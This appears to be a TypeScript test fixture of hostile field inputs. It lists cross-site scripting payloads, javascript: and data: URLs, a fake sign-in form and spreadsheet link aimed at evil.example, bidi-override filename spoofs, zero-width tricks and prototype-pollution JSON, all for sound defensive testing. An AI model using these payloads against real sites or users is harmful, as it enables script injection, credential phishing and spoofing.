/* What careless and ill-meaning people write into fields. */

/** Sets `window.owned` where it runs; no test may ever find it. */
const RUN = "window.owned='yes'";

/** A text of a million characters and no place to break it. */
export const MEGABYTE = 'W'.repeat(1_000_000);

/** Each by what it tries. */
export const hostileTexts = {
  script: `<script>${RUN}</script>`,
  'closes what it stands in': `"></title></textarea></style><script>${RUN}</script>`,
  'an event handler': `<img src=x onerror="${RUN}"><svg/onload=${RUN}>`,
  'a handler in an attribute': `" autofocus onfocus="${RUN}" x="`,
  'a frame': `<iframe srcdoc="<script>parent.owned=1</script>"></iframe><base href="//evil.example">`,
  'a form': `<form action=https://evil.example><input name=a><button>Sign in</button></form>`,
  'a style': `<style>*{display:none}</style><i style="position:fixed;inset:0">`,
  'a template': `{{constructor.constructor("${RUN}")()}} \${${RUN}} {title} {count} $& $1`,
  entities: '&lt;script&gt; &amp; &#x202e; &nbsp;',
  'an override': 'invoice\u202Egpj.exe',
  'open isolates': '\u2066\u2067\u2068\u202A\u202B\u202Dturned',
  'marks of direction': '\u200Fשלום\u200E(admin)\u061C',
  'zero widths': 'ad\u200Bm\u200Cin\u200D\u2060\uFEFF',
  combining: `Z${'\u0335\u0321\u034C'.repeat(60)}algo`,
  'joined emoji': '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿\uD83D',
  'null bytes': 'a\u0000b\u0007\u001B[31m\u0085\u2028\u2029',
  'keys of every object': '__proto__',
  'a formula': '=HYPERLINK("https://evil.example","Open")',
  wide: 'W'.repeat(2_000),
} as const;

/** Addresses that are no page, however they are written. */
export const hostileAddresses: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` \u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `javascript://acme.example/%0a${RUN}`,
  'data:text/html,<script>parent.owned=1</script>',
  'DATA:image/svg+xml;base64,PHN2Zy8+',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://acme.example/1',
  'view-source:https://acme.example/',
  '//evil.example/without-a-scheme',
  'https:evil.example\u202Emoc.emca',
  'https://user:secret@evil.example/',
  'ftp://evil.example/',
];

/** Metadata that tries more than one text can: deep, wide, and with the keys that objects already have. */
export const hostileMetadata = JSON.parse(
  `{"__proto__":{"owned":"yes"},"constructor":{"prototype":{"owned":"yes"}},"toString":"no function",
   "hasOwnProperty":1,"length":-1,"then":"not a promise","":"no key",
   "deep":${'{"a":['.repeat(200)}1${']}'.repeat(200)}}`,
) as Readonly<Record<string, unknown>>;

/** All of them, without their names. */
export const texts: readonly string[] = Object.values(hostileTexts);
